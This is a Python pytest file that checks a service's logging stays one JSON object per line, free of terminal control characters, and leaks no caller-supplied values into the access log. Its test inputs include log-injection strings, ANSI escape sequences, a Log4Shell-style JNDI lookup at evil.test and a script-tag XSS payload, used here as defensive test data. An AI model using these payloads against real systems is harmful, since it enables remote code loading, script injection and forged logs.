"""Whatever is logged, by us or by a library: one JSON object a line, and nothing that a terminal obeys."""

import io
import json
import logging
import unicodedata
from typing import Any

import pytest
from structlog.testing import capture_logs

from omnigen.entrypoints.logs import Lines, _Standard, render
from tests.http.conftest import Api, a_brief, bearer, problem_of

TEXTS = (
    'x\n{"level":"error","event":"forged"}',
    'x\r\n{"event":"forged"}\r',
    "\x1b[2J\x1b]0;title\x07\x1b[31mred",
    "\x9b31mred \x90 \x9d0;title\x9c",
    "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg\x1dh\x1ei",
    "\u202eevil\u2066 \u200b\ufeff",
    '"}, {"level": "error", "event": "forged", "x": "',
    "\\", "\\u000a", "\\n", "\x00", "half \ud800 a pair", "\udfff", "%s %d %(name)s {0} {event}",
    "${jndi:ldap://evil.test/a}", "<script>alert(1)</script>", "日本語 é 🎬",
)  # fmt: skip
PLACES: tuple[Any, ...] = ("{}", ["{}"], {"{}": "{}"}, ValueError("{}"), b"bytes", object())


def filled(place: Any, text: str) -> Any:
    """A value of some kind with the text in it."""
    match place:
        case str():
            return text
        case list():
            return [text]
        case dict():
            return {text: text}
        case ValueError():
            return ValueError(text)
    return place


def check(line: bytes) -> dict[str, Any]:
    text = line.decode()
    assert len(text.splitlines()) == 1, line
    assert [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs")] == [], line
    read = json.loads(text)
    assert isinstance(read, dict)
    return read


@pytest.mark.parametrize("text", TEXTS, ids=ascii)
def test_a_line_of_ours_is_one_object(text: str) -> None:
    for place in PLACES:
        line = render(
            None, "info", {"event": text, "level": "info", "value": filled(place, text), "n": 10**30}
        )
        read = check(line)
        assert read["level"] == "info"
        assert read["event"] == text.encode(errors="replace").decode()


@pytest.fixture
def written() -> tuple[logging.Logger, io.BytesIO]:
    """A library's logger whose lines go our way."""
    stream, logger = io.BytesIO(), logging.Logger("a.library")  # noqa: LOG001  out of the tree of loggers, what it says stays here
    logger.addHandler(_Standard(Lines(stream)))
    return logger, stream


@pytest.mark.parametrize("text", TEXTS, ids=ascii)
def test_a_line_of_a_library_is_one_object(written: tuple[logging.Logger, io.BytesIO], text: str) -> None:
    """Its message, its arguments, and the texts of its errors with their tracebacks."""
    logger, stream = written
    logger.error("said %s", text)
    try:
        raise ValueError(text)
    except ValueError:
        logger.exception("broke")
    lines = stream.getvalue().split(b"\n")
    assert lines.pop() == b""
    first, second = map(check, lines)
    assert first["event"] == f"said {text}".encode(errors="replace").decode()
    assert second["event"] == "broke"


async def test_the_access_log_repeats_only_what_is_ours(api: Api) -> None:
    """A job's id where it is one, a route's pattern, a known method: no word of the caller's."""
    secret = "eyJhbGciOiJSUzI1NiJ9"
    asked = {
        "X-Request-Id": f"{secret}\u00e9".encode(),
        "User-Agent": secret,
        "Referer": secret,
        "X-Forwarded-For": secret,
        "Host": f"{secret}.test",
        "Idempotency-Key": secret,
        "Last-Event-ID": secret,
    }
    with capture_logs() as lines:
        for path in (
            f"/{secret}",
            f"/api/v1/jobs/{secret}",
            f"/api/v1/jobs/job_%0a{secret}",
            f"/api/v1/jobs?q={secret}",
        ):
            await api.client.get(path, headers={**bearer(), **asked})
        await api.client.request(secret, "/health")
        wrong = {"brief": {**a_brief(), "title": secret, "style": secret}}
        problem_of(await api.client.post("/api/v1/jobs", json=wrong, headers={**bearer(), **asked}), 422)
        await api.client.get("/api/v1/usage", headers={"Authorization": f"Bearer {secret}"})
    assert len(lines) == 7
    assert secret not in str(lines)
